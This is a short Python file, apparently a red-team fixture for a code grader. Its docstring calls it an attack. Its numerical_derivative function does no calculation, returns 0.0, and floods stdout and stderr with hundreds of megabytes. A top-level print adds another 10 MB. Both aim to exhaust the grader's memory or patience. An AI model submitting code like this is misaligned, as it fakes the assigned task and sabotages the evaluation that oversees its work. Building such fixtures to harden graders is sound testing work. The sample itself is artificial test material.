"""Attack: flood the output, through print (50 MB at once, then 50,000 lines) and raw
writes to file descriptors 1 and 2, to exhaust the grader's memory or its patience."""

import os


def numerical_derivative(f, x, h=1e-5):
    if x > 0:
        print("x" * 50_000_000)
        for i in range(50_000):
            print("line", i)
        return 0.0
    chunk = b"y" * 1_000_000
    for _ in range(200):
        os.write(1, chunk)
        os.write(2, chunk)
    return 0.0


print("z" * 10_000_000)


def gradient_step(x, grad, learning_rate):
    return x - learning_rate * grad
